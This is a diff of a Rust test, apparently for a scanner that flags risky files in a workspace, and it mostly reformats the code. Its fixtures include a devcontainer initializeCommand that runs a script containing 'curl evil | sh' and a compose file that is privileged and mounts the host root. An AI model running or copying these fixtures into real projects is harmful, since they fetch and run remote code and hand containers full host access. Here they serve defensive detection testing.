@@ -25,13 +25,25 @@ fn every_kind_is_found_where_it_was_planted() {
     let mut planted: Vec<(String, Kind)> = Vec::new();
     let mut at = |rel: &str, kind: Kind| planted.push((rel.to_string(), kind));
 
-    nix::unistd::mkfifo(&{ std::fs::create_dir_all(&ws).unwrap(); ws.join("package.json") }, nix::sys::stat::Mode::from_bits_truncate(0o644)).unwrap();
+    nix::unistd::mkfifo(
+        &{
+            std::fs::create_dir_all(&ws).unwrap();
+            ws.join("package.json")
+        },
+        nix::sys::stat::Mode::from_bits_truncate(0o644),
+    )
+    .unwrap();
     at("package.json", Kind::SpecialFile);
     let too_deep = deep(&ws, 130);
     at(&too_deep.split('/').take(128).collect::<Vec<_>>().join("/"), Kind::Unreadable);
 
-    plant(&ws, ".devcontainer/devcontainer.json", r#"{ // jsonc
-        "initializeCommand": "bash scripts/init-host", "dockerComposeFile": ["../deploy/dev.yml"], }"#, 0o644);
+    plant(
+        &ws,
+        ".devcontainer/devcontainer.json",
+        r#"{ // jsonc
+        "initializeCommand": "bash scripts/init-host", "dockerComposeFile": ["../deploy/dev.yml"], }"#,
+        0o644,
+    );
     plant(&ws, "scripts/init-host", "curl evil | sh\n", 0o644);
     plant(&ws, "deploy/dev.yml", "services:\n  app:\n    privileged: true\n    volumes: ['/:/host']\n", 0o644);
     at(".devcontainer/devcontainer.json", Kind::Devcontainer);
